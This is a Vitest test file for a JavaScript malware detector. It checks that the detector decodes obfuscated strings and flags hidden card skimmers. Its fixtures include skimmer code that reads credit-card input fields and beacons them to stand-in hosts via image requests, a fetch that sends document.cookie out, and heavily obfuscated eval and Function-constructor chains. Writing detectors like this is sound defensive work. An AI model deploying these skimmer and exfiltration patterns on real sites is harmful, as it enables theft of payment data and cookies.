import { describe, expect, it } from 'vitest'
import { factsOf } from './detector/facts-of.ts'
import { MAX_DEPTH } from '../../detector/deobfuscate/layers.ts'
import { obfuscatorBase64, obfuscatorRc4 } from '../../detector/deobfuscate/obfuscator-codec.ts'
import { lineStarts, positionIn, splice } from '../../detector/deobfuscate/splice.ts'
import { analyzeScript } from '../../detector/index.ts'
import { parseStrict } from '../../detector/parse.ts'
import { resolveEdits } from '../../detector/deobfuscate/partial.ts'

const strings = (source: string): string[] => factsOf(source).strings.map((s) => s.value)

// input → a string the folder must recover from it
const DECODED: [string, string, string][] = [
  ['concatenation', `var u = 'ht' + 'tp' + 's://' + 'x.test'`, 'https://x.test'],
  ['array join', `var u = ['a', 'b', 'c'].join('')`, 'abc'],
  ['split reverse join', `var u = 'tset.x'.split('').reverse().join('')`, 'x.test'],
  ['atob', `var u = atob('aHR0cHM6Ly94LnRlc3Q=')`, 'https://x.test'],
  ['window.atob', `var u = window.atob('Y2MtbnVtYmVy')`, 'cc-number'],
  ['fromCharCode', `var u = String.fromCharCode(99, 118, 118)`, 'cvv'],
  ['fromCharCode arithmetic', `var u = String.fromCharCode(0x60 + 3, 100 + 18, 59 * 2)`, 'cvv'],
  ['fromCharCode.apply', `var u = String.fromCharCode.apply(null, [99, 118, 99])`, 'cvc'],
  ['hex escapes', `var u = '\\x63\\x76\\x76'`, 'cvv'],
  ['unicode escapes', `var u = '\\u0063\\u{76}v'`, 'cvv'],
  ['unescape', `var u = unescape('%63%76%u0076')`, 'cvv'],
  ['decodeURIComponent', `var u = decodeURIComponent('cc%2Dnumber')`, 'cc-number'],
  ['constant binding', `var a = 'cc-'; var b = a + 'num' + 'ber'`, 'cc-number'],
  ['template', 'var h = "x.test"; var u = `https://${h}/c`', 'https://x.test/c'],
  ['replace', `var u = 'cc_XX_number'.replace('_XX_', '-')`, 'cc-number'],
]

describe('static deobfuscation recovers strings', () => {
  it.each(DECODED)('%s', (_name, input, expected) => {
    expect(strings(input)).toContain(expected)
  })

  it('unpacks a Dean Edwards packer payload and reads the layer', () => {
    const payload = `eval(function(p,a,c,k,e,d){e=function(c){return c};if(!''.replace(/^/,String)){while(c--){d[c]=k[c]||c}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('3.2(\\'1\\').0=4',5,5,'src|cc_number|getElementById|document|x'.split('|'),0,{}))`
    const facts = factsOf(payload)
    expect(facts.layers.some((l) => l.includes("document.getElementById('cc_number').src"))).toBe(
      true,
    )
  })

  it('decodes nested layers: eval(atob(…)) inside eval(atob(…))', () => {
    const inner = `fetch(document.querySelector('#cc-number').value)`
    const mid = `eval(atob('${Buffer.from(inner).toString('base64')}'))`
    const outer = `\n\n  eval(atob('${Buffer.from(mid).toString('base64')}'))`
    const facts = factsOf(outer)
    const deep = facts.strings.find((s) => s.value === '#cc-number')
    expect(deep?.site.layer).toBe(2)
    expect(deep?.site.line).toBe(3)
    expect(outer.split('\n')[2]?.slice(deep?.site.column)).toMatch(/^atob\(/)
  })

  it('stops at the depth budget instead of recursing forever', () => {
    let src = `fetch('https://x.test/'+document.cookie)`
    for (let i = 0; i < 12; i++) src = `eval(atob('${Buffer.from(src).toString('base64')}'))`
    const facts = factsOf(src)
    expect(facts.layers.length).toBeLessThanOrEqual(MAX_DEPTH + 1)
    expect(analyzeScript(src).findings.length).toBeGreaterThanOrEqual(0)
  })
})

describe('javascript-obfuscator codecs', () => {
  it.each([
    ['ywjJ', 'abc'],
    ['y2mTBNvTyMvY', 'cc-number'],
  ])('base64 with the obfuscator alphabet: %s → %s', (input, expected) => {
    expect(obfuscatorBase64(input)).toBe(expected)
  })

  it('rc4 round-trips with a key', () => {
    // rc4 is its own inverse; encode by hand with the same primitive, then decode
    const key = 'k3y!'
    const encoded = customBase64(rc4Bytes('cc-number', key))
    expect(obfuscatorRc4(encoded, key)).toBe('cc-number')
  })
})

describe('splice maps rewritten offsets back to the original', () => {
  it('keeps positions before, inside and after an edit', () => {
    const src = 'ab\ncd f(1) ef\ngh'
    const s = splice(src, [{ start: 6, end: 10, text: "'a much longer string'" }])
    expect(s.text).toBe("ab\ncd 'a much longer string' ef\ngh")
    const lines = lineStarts(src)
    const at = (offset: number) => positionIn(lines, s.origin(offset))
    expect(at(0)).toEqual({ line: 1, column: 0 })
    expect(at(s.text.indexOf("'a much"))).toEqual({ line: 2, column: 3 })
    expect(at(s.text.indexOf('ef'))).toEqual({ line: 2, column: 8 })
    expect(at(s.text.indexOf('gh'))).toEqual({ line: 3, column: 0 })
  })
})

function rc4Bytes(text: string, key: string): string {
  const s = Array.from({ length: 256 }, (_, i) => i)
  let j = 0
  for (let i = 0; i < 256; i++) {
    j = (j + (s[i] as number) + key.charCodeAt(i % key.length)) % 256
    ;[s[i], s[j]] = [s[j] as number, s[i] as number]
  }
  let i = 0
  j = 0
  let out = ''
  for (const ch of text) {
    i = (i + 1) % 256
    j = (j + (s[i] as number)) % 256
    ;[s[i], s[j]] = [s[j] as number, s[i] as number]
    out += String.fromCharCode(
      ch.charCodeAt(0) ^ (s[((s[i] as number) + (s[j] as number)) % 256] as number),
    )
  }
  return out
}

/** Standard base64 of the UTF-8 bytes, then case swapped: the obfuscator's alphabet. */
function customBase64(bytes: string): string {
  const std = Buffer.from(bytes, 'utf8').toString('base64').replace(/=+$/, '')
  return std.replace(/[a-zA-Z]/g, (c) =>
    c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase(),
  )
}

describe('text unescaped by a function that only returns a literal', () => {
  // the skimmer as octal escapes, one character at a time from a table of digits: thousands of
  // `+` in one chain, unescaped by Function('return "…"')() and run by Function again
  const skimmer = `var build = '${'v2.'.repeat(50)}'
    document.addEventListener('change', function () {
      var n = document.querySelector('input[autocomplete="cc-number"]').value
      new Image().src = 'https://px.glyph-table.example/c.gif?d=' + btoa(n) }, true)`
  const digits = [...skimmer].flatMap((c) => [
    'T.k',
    ...c
      .charCodeAt(0)
      .toString(8)
      .padStart(3, '0')
      .split('')
      .map((d) => `T.d${d}`),
  ])
  const table = `var T = { k: '\\\\', q: '"' }
    for (var i = 0; i < 8; i++) T['d' + i] = '' + i
    var F = (0).constructor.constructor`
  const chain = ["'return '", 'T.q', ...digits, 'T.q'].join('+')

  it('is read however long the chain, and the layer it runs is judged', () => {
    expect(digits.length).toBeGreaterThan(1400)
    const v = analyzeScript(`${table}\nF(F(${chain})())()`)
    expect(v.verdict).toBe('malicious')
    expect(v.findings.map((f) => f.message).join('\n')).toContain(
      'https://px.glyph-table.example/c.gif',
    )
  })

  it('eval of a script that is one string literal gives that string', () => {
    const v = analyzeScript(`${table}\nF(eval(T.q+${digits.join('+')}+T.q))()`)
    expect(v.verdict).toBe('malicious')
  })
})

describe('what the evaluator must not assume', () => {
  it('eval runs its first argument, not its last', () => {
    const skimmer = `document.addEventListener('change', function () { new Image().src = 'https://px.eval-args.example/c.gif?d=' + btoa(document.querySelector('#cc_number').value) }, true)`
    const F = 'var F = (0).constructor.constructor\n'
    expect(
      analyzeScript(`${F}F(eval('"0"', ${JSON.stringify(JSON.stringify(skimmer))}))()`).verdict,
    ).not.toBe('malicious')
    expect(
      analyzeScript(`${F}F(eval(${JSON.stringify(JSON.stringify(skimmer))}, '"0"'))()`).verdict,
    ).toBe('malicious')
  })
  it('the rest of an async function called where it is written runs later, not at load', () => {
    const source = `var cfg = { u: '/ok' }
      ;(async function () { await 0; cfg.u = 'https://elsewhere.example/c' })()
      var log = []
      function send(d) { fetch(cfg.u + log.join(''), { method: 'POST', body: d }) }`
    const ast = parseStrict(source)
    expect(ast).not.toBeNull()
    expect(resolveEdits(ast as NonNullable<typeof ast>, source).map((e) => e.text)).not.toContain(
      '"/ok"',
    )
  })
})
